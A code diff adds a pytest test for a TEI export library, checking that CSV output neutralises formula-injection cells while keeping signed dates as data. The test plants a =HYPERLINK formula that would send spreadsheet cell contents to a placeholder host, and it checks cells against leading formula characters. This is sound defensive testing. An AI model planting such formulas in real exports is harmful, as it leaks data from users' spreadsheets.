@@ -473,3 +473,27 @@ def test_export_to_a_directory_or_an_unwritable_place_is_an_export_error(docs, i
     (tmp_path / "file").write_text("x")
     with pytest.raises(ExportError, match=r"cannot write: "):
         export(docs, tmp_path / "file" / "x.gexf", index=index)
+
+
+def test_csv_cells_that_would_be_formulas_are_neutralised_and_data_is_not(tmp_path):
+    # Issue 12, finding 6: a register name becomes =HYPERLINK(...) in a spreadsheet.
+    register = (TEI / "register.xml").read_text("utf-8")
+    register = register.replace(
+        '<persName type="variant">Tito</persName>',
+        '<persName type="variant">=HYPERLINK("http://example.invalid/?x="&amp;A1,"Tito")</persName>',
+    ).replace('<birth when="1892"/>', '<birth when="-0044"/>')
+    (tmp_path / "register.xml").write_text(register, "utf-8")
+    letter = tmp_path / "letter.xml"
+    letter.write_text((TEI / "letter-1954-06-22.xml").read_text("utf-8"), "utf-8")
+    docs = [load(tmp_path / "register.xml"), load(letter)]
+    export(docs, tmp_path / "csv", "csv")
+    with open(tmp_path / "csv" / "persons.csv", encoding="utf-8", newline="") as table:
+        rows = {row["id"]: row for row in csv.DictReader(table)}
+    assert rows["tito"]["variants"].startswith("'=HYPERLINK(")
+    assert rows["tito"]["birth"] == "-0044"  # a date with a sign is data
+    from teikit.exports.index_formats import dumps
+
+    text = dumps(build_index(docs), "csv", "all")
+    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
+    assert "-0044" in cells
